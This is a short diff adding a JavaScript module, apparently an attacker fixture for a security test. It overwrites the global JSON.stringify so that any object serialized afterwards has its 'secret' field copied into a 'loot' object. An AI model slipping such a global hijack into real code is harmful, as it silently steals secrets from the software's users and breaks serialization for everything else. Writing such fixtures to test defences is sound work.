@@ -1,0 +1,4 @@
+'use strict';
+module.exports = (victim, loot) => {
+  JSON.stringify = (value) => { loot.value = value.secret; };
+};
